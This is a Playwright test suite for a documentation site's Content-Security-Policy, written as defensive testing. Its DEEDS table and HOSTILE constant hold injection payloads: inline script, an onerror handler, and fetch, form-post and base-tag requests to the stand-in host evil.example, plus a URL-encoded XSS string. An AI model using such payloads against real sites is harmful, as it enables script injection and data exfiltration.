"""The Content-Security-Policy: on every page, as the README has it, and really in force."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request

from tests.site.conftest import page_paths
from tests.site.visiting import visit

ROOT = Path(__file__).parents[2]
META = '<meta http-equiv="Content-Security-Policy" content="'
HEADER = re.compile(r"^ +Content-Security-Policy: (.*)$", re.MULTILINE)


def policy(html: str) -> str:
    """The policy in the head of a page."""
    return html.partition(META)[2].partition('"')[0]


def test_every_page_has_the_policy_before_anything_loads(built: Path) -> None:
    """The same on all, 404 and moved pages too; scripts and styles of our own files only."""
    pages = [built / path.lstrip("/") for path in page_paths(built)]
    found = set()
    for path in pages:
        html = (path / "index.html" if path.is_dir() else path).read_text(encoding="utf-8")
        found.add(policy(html))
        head = html.partition(META)[0]
        assert not re.search(r"<(script|link|style|base)", head), path
    assert len(pages) > 20
    assert len(found) == 1
    parts = dict(part.strip().split(" ", 1) for part in found.pop().split(";"))
    assert parts["default-src"] == parts["base-uri"] == "'none'"
    assert parts["script-src"] == parts["style-src"] == "'self'"
    assert "unsafe" not in str(parts)
    assert "http" not in str(parts)


def test_the_readme_has_the_same_policy_as_a_header(built: Path) -> None:
    """What a host sends is what the pages say, and who may frame them: a page cannot say that."""
    html = (built / "index.html").read_text(encoding="utf-8")
    header = HEADER.search((ROOT / "README.md").read_text(encoding="utf-8"))
    assert header is not None
    assert header.group(1) == f"{policy(html)}; frame-ancestors 'none'"


def test_no_page_has_a_script_or_a_style_of_its_own(built: Path) -> None:
    """Nothing inline that the policy would have to allow."""
    for path in built.rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        assert re.findall(r"<script(?![^>]* src=)[^>]*>", html) == [], path
        assert re.findall(r"<style|<[a-z]+[^>]* style=|<[a-z]+[^>]* on[a-z]+=", html) == [], path


def written(html: str) -> str:
    """The deed of writing some HTML into a page that is open."""
    return f"document.body.insertAdjacentHTML('beforeend', `{html}`)"


DEEDS = {
    "a script in the page": (
        "const made = document.createElement('script');"
        "made.textContent = 'window.ran = 1'; document.body.append(made)"
    ),
    "a handler": written("<img src=icon.svg onerror='window.ran = 1'>"),
    "a style": written("<p style='color: red'>words</p>"),
    "a picture from elsewhere": written("<img src='https://evil.example/x.png'>"),
    "a frame": written("<iframe src='/'></iframe>"),
    "a request elsewhere": "fetch('https://evil.example/').catch(() => 0)",
    "a form": (
        written("<form id=evil action='https://evil.example/'></form>")
        + "; document.getElementById('evil').submit()"
    ),
    "another base": written("<base href='https://evil.example/'>"),
}


@pytest.mark.parametrize("deed", DEEDS)
def test_the_policy_stops_what_it_is_there_for(
    page: Page, address: str, stopped: list[str], deed: str
) -> None:
    """Whatever got into a page would not run, load or send; and every test would hear of it."""
    visit(page, f"{address}/hospitality/")
    asked: list[Request] = []
    page.on("requestfailed", lambda request: asked.extend([request]))
    page.on("requestfinished", lambda request: asked.extend([request]))
    with page.expect_console_message(lambda message: message.text.startswith("policy:")):
        page.evaluate(f"() => {{ {DEEDS[deed]} }}")
    assert any("policy:" in line for line in stopped)
    stopped.clear()
    assert page.evaluate("window.ran") is None
    assert {request.failure for request in asked if "evil" in request.url} <= {"csp"}
    assert page.url == f"{address}/hospitality/"


SINKS = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc"
)


def test_no_script_of_ours_turns_words_into_html() -> None:
    """Where nothing writes HTML, no address, index or stored plan can smuggle any in."""
    modules = sorted((ROOT / "generator/theme/assets/javascripts").glob("*.js"))
    assert len(modules) > 5
    found = {module.name: SINKS.findall(module.read_text(encoding="utf-8")) for module in modules}
    assert {name: sinks for name, sinks in found.items() if sinks} == {}


HOSTILE = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"


@pytest.mark.parametrize("path", ["/", "/actions/", "/hospitality/recruitment/", "/404.html"])
@pytest.mark.parametrize("ending", ["#%", "#%E0%A4%A", f"#{HOSTILE}", f"?{HOSTILE}={HOSTILE}"])
def test_a_hostile_address_does_nothing(page: Page, address: str, path: str, ending: str) -> None:
    """What follows # or ? may be anything: no error, no element, and search still starts."""
    said: list[str] = []
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    visit(page, f"{address}{path}{ending}")
    page.get_by_role("button", name="Search", exact=True).wait_for()
    assert page.locator("img[onerror], img[src=x]").count() == 0
    assert said == []


def test_a_hostile_choice_in_the_address_does_nothing(page: Page, address: str) -> None:
    """Each filter of the list of actions is set from the address, and only to what there is."""
    visit(page, f"{address}/actions/")
    names = page.locator("article [name], article form [id]").evaluate_all(
        "found => found.map(e => e.getAttribute('name') ?? e.id)"
    )
    said: list[str] = []
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    visit(
        page, f"{address}/actions/?" + "&".join(f"{name}={HOSTILE}" for name in ("words", *names))
    )
    page.get_by_role("button", name="Search", exact=True).wait_for()
    assert page.locator("img[onerror], img[src=x]").count() == 0
    assert said == []


def test_a_file_made_in_the_page_can_be_saved(page: Page, address: str) -> None:
    """What a reader writes can be taken home without any server: the policy leaves that alone."""
    visit(page, f"{address}/")
    with page.expect_download() as saved:
        page.evaluate(
            "() => { const made = document.createElement('a'); made.download = 'plan.json';"
            "made.href = URL.createObjectURL(new Blob(['{}'])); made.click(); }"
        )
    assert saved.value.suggested_filename == "plan.json"
    assert saved.value.path().read_text(encoding="utf-8") == "{}"


def test_what_readers_do_runs_under_the_policy(browser: Browser, address: str) -> None:
    """Search with its worker, menu, colours, folding, printing and 404: none of it is stopped."""
    page = browser.new_page(viewport={"width": 360, "height": 700})
    for path in ("/", "/hospitality/recruitment/", "/404.html"):
        visit(page, address + path)
        page.get_by_role("button", name="Search", exact=True).click()
        page.get_by_label("Search the toolkits").fill("interview")
        page.get_by_text(re.compile(r'results? for "interview"')).wait_for()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Menu").click()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Dark colours").click()
        for summary in page.locator("summary").all():
            summary.click()
        page.emulate_media(media="print")
        page.pdf()
        page.emulate_media(media="screen")
    page.close()
